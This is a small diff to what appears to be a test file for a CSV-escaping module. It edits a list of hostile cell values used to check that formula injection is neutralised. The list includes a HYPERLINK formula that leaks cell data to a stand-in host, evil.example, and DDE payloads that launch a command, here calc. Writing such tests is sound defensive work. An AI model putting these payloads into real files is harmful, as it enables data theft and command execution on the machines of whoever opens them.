@@ -6,7 +6,7 @@ import { csvCell, csvLine } from '../../src/server/results/csv.ts';
 const HOSTILE = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"Dr. Smith")',
   "+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '-2+3',
   '\t=1+1',
   '\r=1+1',
